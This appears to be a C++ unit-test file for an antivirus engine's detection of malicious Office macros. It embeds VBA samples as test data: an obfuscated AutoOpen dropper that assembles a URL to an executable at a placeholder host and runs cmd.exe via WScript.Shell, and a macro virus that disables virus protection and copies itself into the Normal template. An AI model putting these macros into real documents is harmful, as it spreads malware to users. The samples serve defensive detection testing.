// The document "behaviour" features (schema v2) and the deterministic office rules, on Word files with VBA built
// here (tests/support/cfb_builder): what the static evaluator recovers from an obfuscated dropper (URL to an
// executable, the command line), the replication and stealth identifiers of a 1990s macro virus, and that an
// ordinary macro that saves a copy and formats cells sets none of them.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "engine/scanner.hpp"
#include "features/office_features.hpp"
#include "support/cfb_builder.hpp"
#include "support/office_sample.hpp"

namespace {

using namespace mamori;
using namespace mamori::test;

std::vector<std::uint8_t> word_bytes(const std::string& name, const std::string& code) {
  VbaSpec v;
  v.modules = {{name, "Attribute VB_Name = \"" + name + "\"\r\n" + code, std::vector<std::uint8_t>(600, 0xA5), true}};
  return build_word_doc(v);
}

features::OfficeSample word_with(const std::string& name, const std::string& code) {
  return featurize(word_bytes(name, code));
}

const char* kVirus =
    "Sub AutoClose()\r\n  Options.VirusProtection = False\r\n"
    "  Options.SaveNormalPrompt = False\r\n"
    "  Application.OrganizerCopy Source:=ActiveDocument.FullName, "
    "Destination:=NormalTemplate.FullName, Name:=\"Virus\", Object:=wdOrganizerObjectProjectItems\r\n"
    "End Sub\r\n";

TEST(OfficeBehaviour, EvaluatorSeesThroughConcatenation) {
  // The URL and the command exist only after folding Chr() arithmetic, StrReverse and concatenation.
  const auto s = word_with("Module1",
                           "Sub AutoOpen()\r\n  Dim u As String, c As String\r\n"
                           "  u = \"ht\" & Chr(115 + 1) & \"p://dl.\" & \"example.invalid/\" & StrReverse(\"exe.daol\")\r\n"
                           "  c = \"cmd.e\" & \"xe /c start %TEMP%\\load.exe\"\r\n"
                           "  CreateObject(\"WScript.Shell\").Run c, 0\r\nEnd Sub\r\n");
  EXPECT_EQ(feature(s, "behaviour.evaluated_projects"), 1.0f);
  EXPECT_GE(feature(s, "behaviour.ioc_urls"), 1.0f);
  EXPECT_GE(feature(s, "behaviour.ioc_url_executables"), 1.0f);
  EXPECT_GE(feature(s, "behaviour.ioc_commands"), 1.0f);
  EXPECT_GE(feature(s, "behaviour.decoded_strings"), 1.0f);
  EXPECT_EQ(feature(s, "behaviour.autoexec_download_execute"), 1.0f);
  EXPECT_EQ(feature(s, "behaviour.replication"), 0.0f);
  // AutoOpen builds a URL naming an executable and runs a command through WScript.Shell: a loader (schema v5).
  EXPECT_EQ(feature(s, "chain.trigger_download_execute"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "macro-loader");
}

TEST(OfficeBehaviour, MacroVirusReplicationAndStealth) {
  const auto s = word_with("Virus", kVirus);
  EXPECT_EQ(feature(s, "behaviour.stealth"), 2.0f);
  EXPECT_EQ(feature(s, "behaviour.replication"), 2.0f);  // OrganizerCopy, NormalTemplate
  EXPECT_EQ(feature(s, "behaviour.autoexec_replicates"), 1.0f);
  EXPECT_EQ(feature(s, "behaviour.ioc_urls"), 0.0f);
  EXPECT_EQ(features::office_rule(s.x), "macro-replication");
}

TEST(OfficeBehaviour, XlstartCopyIsReplication) {
  const auto s = word_with("Module1",
                           "Sub Auto_Open()\r\n  p = Application.StartupPath\r\n"
                           "  ActiveWorkbook.SaveCopyAs p & \"\\XLSTART\\book.xls\"\r\nEnd Sub\r\n");
  EXPECT_EQ(feature(s, "behaviour.replication"), 1.0f);
  EXPECT_EQ(feature(s, "behaviour.startup_paths"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "macro-replication");
}

// The same copy into the start-up folder, run from a dialog's buttons instead of a hook Office runs by itself: a
// Word template installing itself as an add-in (corpus 11d: 22 such benign templates), not the rule. Run from
// AutoOpen it is.
TEST(OfficeBehaviour, StartupCopyFromButtonsIsNotTheRule) {
  const std::string copy = "  p = Application.StartupPath\r\n"
                           "  ActiveWorkbook.SaveCopyAs p & \"\\XLSTART\\book.xls\"\r\n";
  const auto dialog = word_with("Module1", "Private Sub InstallButton_Click()\r\n" + copy + "End Sub\r\n"
                                "Private Sub CancelButton_Click()\r\n  Unload Me\r\nEnd Sub\r\n");
  EXPECT_EQ(feature(dialog, "behaviour.replication"), 1.0f);
  EXPECT_EQ(feature(dialog, "behaviour.startup_paths"), 1.0f);
  EXPECT_EQ(feature(dialog, "behaviour.stealth"), 0.0f);
  EXPECT_EQ(features::office_rule(dialog.x), "");
  const auto hook = word_with("Module1", "Sub AutoOpen()\r\n" + copy + "End Sub\r\n");
  EXPECT_EQ(features::office_rule(hook.x), "macro-replication");
}

TEST(OfficeBehaviour, AddInInstallerIsNotTheRule) {
  // Copies itself into XLSTART by a path string and turns off Ctrl+Break, but never touches the template, the
  // startup path object or another workbook's code: an add-in installer, not a virus.
  const auto s = word_with("Module1",
                           "Sub Auto_Open()\r\n  Application.EnableCancelKey = xlDisabled\r\n"
                           "  ThisWorkbook.SaveCopyAs Environ(\"APPDATA\") & \"\\Microsoft\\Excel\\XLSTART\\tools.xlam\"\r\n"
                           "End Sub\r\n");
  EXPECT_EQ(feature(s, "behaviour.stealth"), 1.0f);
  EXPECT_EQ(feature(s, "behaviour.startup_paths"), 1.0f);
  EXPECT_EQ(feature(s, "behaviour.replication"), 0.0f);
  EXPECT_EQ(features::office_rule(s.x), "");
}

TEST(OfficeBehaviour, OrdinaryBusinessMacroSetsNothing) {
  const auto s = word_with("Module1",
                           "Sub Workbook_Open()\r\n  Application.ScreenUpdating = False\r\n"
                           "  Range(\"A1:D20\").Font.Bold = True\r\n"
                           "  ThisWorkbook.SaveCopyAs ThisWorkbook.Path & \"\\backup.xlsm\"\r\nEnd Sub\r\n");
  for (const char* f : {"behaviour.ioc_urls", "behaviour.ioc_commands", "behaviour.powershell_layers",
                        "behaviour.replication", "behaviour.stealth", "behaviour.startup_paths",
                        "behaviour.autoexec_download", "behaviour.autoexec_execute", "behaviour.autoexec_replicates"})
    EXPECT_EQ(feature(s, f), 0.0f) << f;
  EXPECT_EQ(features::office_rule(s.x), "");
}

TEST(OfficeBehaviour, NoMacrosNoBehaviour) {
  CfbSpec s;
  std::vector<std::uint8_t> fib(5000, 0);
  fib[0] = 0xEC;
  fib[1] = 0xA5;
  s.streams.push_back({"WordDocument", fib});
  const auto doc = build_cfb(s);
  const auto x = featurize(doc);
  EXPECT_EQ(feature(x, "behaviour.evaluated_projects"), 0.0f);
  EXPECT_EQ(features::office_rule(x.x), "");
}

TEST(OfficeBehaviour, RuleRaisesTheVerdictInTheEngine) {
  const auto eng = office_scanner();
  if (!eng) GTEST_SKIP() << "models/office not shipped";
  const auto doc = word_bytes("Virus", kVirus);
  const auto r = eng->scan_bytes(ByteView(doc.data(), doc.size()), "virus.doc");
  EXPECT_EQ(r.verdict, engine::Verdict::malicious);
  bool named = false;
  for (const auto& [k, v] : r.context) named = named || (k == "rule" && v == "macro-replication");
  EXPECT_TRUE(named);
}

}  // namespace
